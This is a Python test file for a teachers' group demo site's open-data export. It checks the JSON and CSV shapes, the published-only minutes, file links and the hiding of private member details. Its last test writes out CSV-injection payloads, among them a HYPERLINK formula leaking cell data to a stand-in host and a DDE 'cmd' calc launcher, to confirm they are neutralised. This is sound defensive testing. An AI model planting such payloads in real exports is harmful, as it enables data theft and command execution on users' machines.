"""Open data: /data/*.json and /data/materi.csv of the built demo site.

Checked against the data files themselves (not the generator's views): every published
item is there, nothing private or draft is, and the documented shape
(content/panduan/data-terbuka.md) is the shape written.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote

import pytest
import yaml
from support.build import ROOT, SITE_URL, TODAY
from support.data import demo_yaml, front_matter, json_objects

GUIDE = (ROOT / "content" / "panduan" / "data-terbuka.md").read_text(encoding="utf-8")
MEMBERS = demo_yaml("anggota.yml")
PRIVATE = ("nip", "nuptk", "telepon", "surel", "alamat")


def dataset(site: Path, name: str) -> dict:
    return json.loads((site / "data" / f"{name}.json").read_text(encoding="utf-8"))


def documented() -> dict[str, list[str]]:
    """Keys of each dataset as the guide's tables list them."""
    sections = re.split(r"^### ", GUIDE, flags=re.MULTILINE)[1:]
    return {s.split("\n", 1)[0].strip(): re.findall(r"^\| `([a-z_]+)` \|", s, flags=re.MULTILINE) for s in sections}


def test_every_documented_dataset_is_written_in_the_documented_shape(site: Path) -> None:
    written = sorted(p.stem for p in (site / "data").glob("*.json"))
    assert written == sorted(documented())
    for name, keys in documented().items():
        document = dataset(site, name)
        assert list(document) == ["versi", "nama", "judul", "kkg", "dibuat", "sumber", "data"]
        assert document["versi"] == 1 and document["nama"] == name
        assert document["dibuat"] == TODAY.isoformat() and document["sumber"] == SITE_URL
        assert document["data"], name
        for record in document["data"]:
            assert list(record) == keys, name
        assert f"(../data/{name}.json)" in GUIDE


def test_minutes_are_the_published_ones_newest_first(site: Path) -> None:
    files = sorted((ROOT / "data" / "notulen").glob("*.md"))
    published = {p.stem: front_matter(p) for p in files if front_matter(p).get("status", "disahkan") != "draf"}
    assert len(published) < len(files)  # the demo has a draft, which must stay out
    records = dataset(site, "notulen")["data"]
    assert [r["id"] for r in records] == sorted(published, key=lambda i: (published[i]["tanggal"], i), reverse=True)
    for record in records:
        source = published[record["id"]]
        assert record["judul"] == source["judul"] and record["keputusan"] == source.get("keputusan", [])
        assert [p["id"] for p in record["hadir"]] == source.get("hadir", [])
        assert record["url"] == f"{SITE_URL}notulen/{record['id']}/"
        assert (site / "notulen" / record["id"] / "index.html").is_file()


def test_materials_are_all_in_json_and_csv(site: Path) -> None:
    items = {p.stem: yaml.safe_load(p.read_text(encoding="utf-8")) for p in (ROOT / "data" / "materi").rglob("*.yml")}
    records = dataset(site, "materi")["data"]
    assert {r["id"] for r in records} == set(items)
    for record in records:
        assert record["judul"] == items[record["id"]]["judul"]
        for attachment in record["berkas"]:
            assert (site / unquote(attachment["url"].removeprefix(SITE_URL))).stat().st_size == attachment["ukuran"]
    text = (site / "data" / "materi.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["id"] for row in rows] == [r["id"] for r in records]
    columns = re.search(r"kolom (`.*?`) dan `url`", GUIDE, re.DOTALL)[1].replace("\n", " ").replace("`", "").split(", ")
    assert list(rows[0]) == [*columns, "url"]
    for row, record in zip(rows, records):
        assert row["url"] == record["url"] and row["judul"] == record["judul"]
        assert row["berkas"] == "; ".join(a["url"] for a in record["berkas"])


def test_activities_are_all_there_with_their_files(site: Path) -> None:
    files = sorted((ROOT / "data" / "kegiatan").glob("*.yml"))
    records = dataset(site, "kegiatan")["data"]
    assert [r["id"] for r in records] == [p.stem for p in files]  # file names start with the first day
    for record in records:
        source = demo_yaml(f"kegiatan/{record['id']}.yml")
        assert record["judul"] == source["judul"] and record["mulai"] == str(source.get("tanggal", source.get("mulai")))
        assert len(record["foto"]) == len(source.get("dokumentasi", []))
        for url in [record["url"], *record["foto"], *record["materi"], *filter(None, [record["kalender"]])]:
            target = site / unquote(url.removeprefix(SITE_URL))
            assert (target / "index.html" if url.endswith("/") else target).is_file(), url
    assert any(r["kalender"] for r in records) and any(r["foto"] for r in records)


def test_boards_and_members_follow_their_files(site: Path) -> None:
    boards = demo_yaml("pengurus.yml")
    records = dataset(site, "pengurus")["data"]
    assert [r["periode"] for r in records] == [b["periode"] for b in boards]
    assert [r["ketua"]["id"] for r in records] == [b["ketua"] for b in boards]
    assert [r["berlaku"] for r in records].count(True) == 1
    members = dataset(site, "anggota")["data"]
    assert {m["id"] for m in members} == {m["id"] for m in MEMBERS}
    schools = demo_yaml("sekolah.yml")
    assert [s["id"] for s in dataset(site, "sekolah")["data"]] == [s["id"] for s in schools]


def test_no_private_value_unless_the_member_published_it(site: Path) -> None:
    texts = "\n".join(p.read_text(encoding="utf-8") for p in (site / "data").iterdir())
    members = {m["id"]: m for m in dataset(site, "anggota")["data"]}
    published = 0
    for member in MEMBERS:
        for key in PRIVATE:
            value = member.get(key)
            if value is None:
                continue
            if key in member.get("publik", []):
                assert members[member["id"]]["kontak"][key] == value
                published += 1
            else:
                assert json.dumps(value, ensure_ascii=False)[1:-1] not in texts, (member["id"], key)
    assert published  # the demo publishes some, so both branches are exercised


@pytest.mark.parametrize("name", ["kegiatan", "notulen", "materi", "pengurus"])
def test_people_are_named_by_id_name_and_page(site: Path, name: str) -> None:
    by_id = {m["id"]: m for m in MEMBERS}
    people = [node for node in json_objects(dataset(site, name)["data"]) if set(node) == {"id", "nama", "url"}]
    assert people
    for person in people:
        assert person["nama"] == by_id[person["id"]]["nama"]
        assert person["url"] == f"{SITE_URL}anggota/{person['id']}/"


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """OWASP's rule for CSV injection: text starting with = + - @ tab or CR gets an apostrophe."""
    from support.build import copy_project

    from kkg_site.generator import generate

    project = copy_project(tmp_path / "proyek")
    item = project.data / "materi" / "ipas" / "poster-rantai-makanan.yml"
    hostile = ['=HYPERLINK("https://contoh.id/?"&A1;"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
    text = item.read_text(encoding="utf-8")
    text = text.replace("judul: Poster Rantai Makanan di Sawah", f"judul: '{hostile[0]}'")
    text = text.replace(
        "kata_kunci: [ekosistem, rantai makanan]", f'kata_kunci: ["{hostile[1]}", "{hostile[2]}", "{hostile[3]}"]'
    )
    item.write_text(text, encoding="utf-8")

    output = generate(project.data, TODAY)
    table = next(f.content for f in output.files if f.path == "data/materi.csv")
    rows = list(csv.DictReader(io.StringIO(table.removeprefix("\ufeff"))))
    row = next(r for r in rows if r["id"] == "poster-rantai-makanan")
    assert row["judul"] == "'" + hostile[0]
    assert row["kata_kunci"] == "'" + "; ".join(hostile[1:])
    for cells in rows:
        for value in cells.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
